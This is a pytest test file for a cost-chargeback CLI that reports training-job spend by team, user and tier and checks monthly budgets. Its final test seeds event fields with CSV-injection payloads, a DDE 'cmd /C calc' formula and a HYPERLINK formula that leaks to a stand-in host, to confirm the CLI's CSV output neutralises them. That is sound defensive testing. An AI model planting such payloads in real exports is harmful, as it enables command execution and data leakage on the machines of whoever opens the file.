"""`shareplane usage`: the chargeback report from the jobs table, as json, csv and a table."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import boto3
import pytest
from moto import mock_aws
from shareplane.adapters.dynamodb_store import DynamoJobStore
from shareplane.domain.jobs.tags import TEAM_TAG, TIER_TAG
from shareplane.schemas import parse_state_event
from shareplane.service.record_state import record_observation
from shareplane_cli.main import app
from typer.testing import CliRunner

from tests.aws import create_jobs_table
from tests.fakes.metrics import FakeMetrics
from tests.integration.test_cost_once import ARN, CONFIG, attempt_stream, link_to_batch_job, training_event

TABLE = "shareplane-jobs"
ALICE = "arn:aws:iam::111122223333:role/prodexp1-ml-engineers"
JOB = "arn:aws:batch:us-east-1:123456789012:service-job/job-1"
runner = CliRunner()


def seed(client: Any) -> None:
    """ProdExp1: two attempts of one LOWPRI job (uploaded by ALICE), one running attempt of another job;
    ProdExp2: one MIDPRI attempt; and a training job no Batch job links (nobody's)."""
    create_jobs_table(client, TABLE)
    store = DynamoJobStore(client, TABLE)
    link_to_batch_job(store, JOB, "ProdExp1", 10, [ARN + "a1", ARN + "a2"])
    link_to_batch_job(store, JOB + "-b", "ProdExp2", 50, [ARN + "b1"])
    link_to_batch_job(store, JOB + "-r", "ProdExp1", 10, [ARN + "r1"])
    events = attempt_stream("a1", "Failed", 900) + attempt_stream("a2", "Completed", 2700)
    other = attempt_stream("b1", "Completed", 3600)
    running = training_event(
        "r1", "InProgress", "Training", 1_773_619_500_000, TrainingStartTime=1_773_619_500_000
    )
    stranger = training_event(
        "s1", "InProgress", "Training", 1_773_619_500_000, TrainingStartTime=1_773_619_500_000
    )
    for raw in [*events, *other, running, stranger]:
        record_observation(parse_state_event(raw), store, FakeMetrics(), CONFIG)
    store.save_payload(JOB, {"uploader": {"principal": {"arn": ALICE, "check": "submitter"}}})


@pytest.fixture
def seeded(aws_credentials: None) -> Any:
    with mock_aws():
        seed(boto3.client("dynamodb", region_name="us-east-1"))
        yield


def invoke(*args: str) -> Any:
    result = runner.invoke(app, ["usage", "--table", TABLE, *args])
    return result


def test_spend_by_team_counts_finished_attempts_and_estimates_running_ones(seeded: None) -> None:
    result = invoke("--output", "json")
    assert result.exit_code == 0, result.output
    rows = {r["team"]: r for r in json.loads(result.stdout)}
    # a1 + a2: 3600 billable s x 4 instances at 37.688 USD per instance-hour; r1 runs, estimated
    assert rows["ProdExp1"]["attempts"] == 3
    finished = rows["ProdExp1"]["usd"] - rows["ProdExp1"]["estimated_usd"]
    assert finished == pytest.approx(4 * 37.688, abs=0.01)
    assert rows["ProdExp1"]["estimated_usd"] > 0
    assert rows["ProdExp2"] == {
        "team": "ProdExp2",
        "usd": pytest.approx(4 * 37.688, abs=0.01),
        "estimated_usd": 0.0,
        "billable_instance_hours": 4.0,
        "unpriced_instance_hours": 0.0,
        "attempts": 1,
    }


def test_spend_by_user_names_the_uploaders_principal_as_csv(seeded: None) -> None:
    result = invoke("--team", "ProdExp1", "--by", "user", "--output", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert list(rows[0]) == [
        "team",
        "user",
        "usd",
        "estimated_usd",
        "billable_instance_hours",
        "unpriced_instance_hours",
        "attempts",
    ]
    by_user = {r["user"]: r for r in rows}
    assert float(by_user[ALICE]["usd"]) == pytest.approx(4 * 37.688, abs=0.01)
    assert by_user[ALICE]["attempts"] == "2"
    assert by_user["unknown"]["attempts"] == "1"  # the running attempt's job has no uploader recorded


def test_the_table_explains_billable_time_and_bad_options_name_the_fix(
    seeded: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "200")
    table = invoke("--by", "tier", "--since", "2026-03-01")
    assert table.exit_code == 0, table.output
    assert "LOWPRI" in table.output and "MIDPRI" in table.output
    assert "provisioning is not billed" in table.output
    later = invoke("--since", "2030-01-01", "--output", "json")
    assert json.loads(later.stdout) == []
    unknown = invoke("--team", "Nobody")
    assert unknown.exit_code == 2 and "ProdExp1" in unknown.output
    bad = invoke("--since", "yesterday")
    assert bad.exit_code == 2 and "30d" in bad.output


def test_budgets_show_each_teams_month_against_its_budget(seeded: None, tmp_path: Any) -> None:
    import yaml

    from tests.conftest import REPO

    data = yaml.safe_load((REPO / "config" / "shares.yaml").read_text())
    data["budgets"] = {
        "ProdExp1": {"monthly_usd": 100, "enforcement": "refuse_lowpri"},
        "ProdExp2": {"monthly_usd": 1000},
    }
    path = tmp_path / "shares.yaml"
    path.write_text(yaml.safe_dump(data))
    result = runner.invoke(
        app, ["budgets", "--table", TABLE, "--config", str(path), "--month", "2026-03", "--output", "json"]
    )
    assert result.exit_code == 0, result.output
    rows = {r["team"]: r for r in json.loads(result.stdout)}
    # March is over: its forecast is its spend. ProdExp1 was billed its two finished attempts (4 x
    # 37.688), and its attempt still running (4 instances since 00:05 on 16 March) accrued the rest of March
    accrued = (16 * 86400 - 300) * 4 / 3600 * 37.688
    assert rows["ProdExp1"]["billed_usd"] == pytest.approx(150.75, abs=0.01)
    assert rows["ProdExp1"]["accrued_usd"] == pytest.approx(accrued, abs=0.01)
    assert rows["ProdExp1"]["spent_usd"] == pytest.approx(150.75 + accrued, abs=0.01)
    assert rows["ProdExp1"]["forecast_usd"] == pytest.approx(150.75 + accrued, abs=0.02)
    assert (rows["ProdExp1"]["over"], rows["ProdExp1"]["enforcement"]) == (True, "refuse_lowpri")
    assert (rows["ProdExp2"]["over"], rows["ProdExp2"]["used"]) == (False, pytest.approx(0.1508, abs=1e-4))
    bad = runner.invoke(app, ["budgets", "--table", TABLE, "--config", str(path), "--month", "March"])
    assert bad.exit_code == 2 and "YYYY-MM" in bad.output


#: What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_no_csv_cell_the_cli_writes_starts_a_formula(aws_credentials: None, tmp_path: Any) -> None:
    # GIVEN training jobs whose SageMaker events carry formulas where a team, a tier and an instance
    # type go (event fields are whatever the training job was created with, never ours to trust)
    import yaml

    from tests.conftest import REPO

    with mock_aws():
        client = boto3.client("dynamodb", region_name="us-east-1")
        create_jobs_table(client, TABLE)
        store = DynamoJobStore(client, TABLE)
        link_to_batch_job(store, JOB, "ProdExp1", 10, [ARN + "f1", ARN + "f2"])
        for name, instance_type in (("f1", "@SUM(1+1)*cmd|' /C calc'!A0"), ("f2", "-2+3")):
            for raw in attempt_stream(name, "Completed", 600):
                raw["detail"]["ResourceConfig"]["InstanceType"] = instance_type
                raw["detail"]["Tags"] = {TEAM_TAG: '=HYPERLINK("http://x.example/?leak")', TIER_TAG: "+1"}
                record_observation(parse_state_event(raw), store, FakeMetrics(), CONFIG)
        data = yaml.safe_load((REPO / "config" / "shares.yaml").read_text())
        data["budgets"] = {"ProdExp1": {"monthly_usd": 100}}
        path = tmp_path / "shares.yaml"
        path.write_text(yaml.safe_dump(data))
        # WHEN every CSV the CLI writes is asked for
        outputs = {
            f"usage --by {by}": runner.invoke(app, ["usage", "--table", TABLE, "--by", by, "-o", "csv"])
            for by in ("team", "tier", "instance-type", "user", "day")
        }
        outputs["budgets"] = runner.invoke(
            app, ["budgets", "--table", TABLE, "--config", str(path), "-o", "csv"]
        )
    # THEN no cell starts with what a spreadsheet takes for a formula
    cells: set[tuple[str, str]] = set()
    for name, result in outputs.items():
        assert result.exit_code == 0, result.output
        for row in csv.reader(io.StringIO(result.stdout)):
            cells |= {(name, cell) for cell in row if cell.startswith(FORMULA_STARTS)}
    assert not cells, f"formula cells: {sorted(cells)}"
